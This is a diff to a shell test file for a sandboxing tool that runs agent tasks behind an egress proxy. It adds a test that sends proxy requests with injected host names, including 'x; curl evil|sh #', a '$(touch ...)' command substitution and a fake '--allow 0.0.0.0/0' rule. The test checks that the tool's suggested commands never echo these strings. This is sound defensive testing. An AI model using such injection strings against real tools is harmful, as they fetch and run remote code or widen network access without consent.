@@ -130,10 +130,10 @@ print(s.recv(4096).split(b"\r\n")[0].decode())' "$1"
 
 @test "ESCAPES 22 19: the proxy ends with the task, and idles without one" {
   "$garth" run -d -t t --allow "localhost:$port" -- sleep 1000
-  keeper=$(pgrep -f "run -d -t t --allow localhost:$port" | head -n1)
+  keeper=$(keeper_of t)
   ! pgrep -P "$keeper" -x garth-proxy
   "$garth" exec t -- curl -s -m 20 --noproxy '' "http://localhost:$port/word" >/dev/null
-  proxy=$(pgrep -P "$keeper" -x garth-proxy)
+  eventually pgrep -P "$keeper" -x garth-proxy; proxy=$(pgrep -P "$keeper" -x garth-proxy | head -n 1)
   "$garth" cancel t
   eventually not kill -0 "$proxy"
 }
@@ -170,4 +170,17 @@ print(n)')
   call "$garth" run -t t --allow "localhost:1" -- sh -c 'curl -s -m 20 http://localhost:1/; curl -s -m 20 http://example.com/; true'
   [[ $code == 0 && $err == *'does not reach example.com:80: --allow example.com lets it'* && $err != *localhost* ]] || complain
   call "$garth" show t; [[ $out == *'no answer  localhost:1, 1 time'*'refused    example.com:80, 1 time'* ]] || complain
+}
+
+@test "J5 egress: what an agent asks for and is no host's name is not put into the user's mouth" {
+  cat >ask.py <<'PY'
+import os, socket, sys
+host, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
+for name in (b"x; curl evil|sh #", b"$(touch${IFS}/tmp/pwn)", b"*", b"x --allow 0.0.0.0/0", b"", b"plain.example"):
+    s = socket.create_connection((host, int(port))); s.sendall(b"\5\1\0"); s.recv(2)
+    s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + (8443).to_bytes(2, "big")); s.recv(10)
+PY
+  commit ask; call "$garth" run -t t -- /usr/bin/python3 ask.py
+  [[ $err == *"its network does not reach plain.example:8443: --allow plain.example:8443 lets it"* && $err == *"no host's name: garth show t"* ]] || complain
+  [[ $err != *curl* && $err != *touch* && $err != *'--allow *'* && $err != *0.0.0.0* ]] || complain
 }
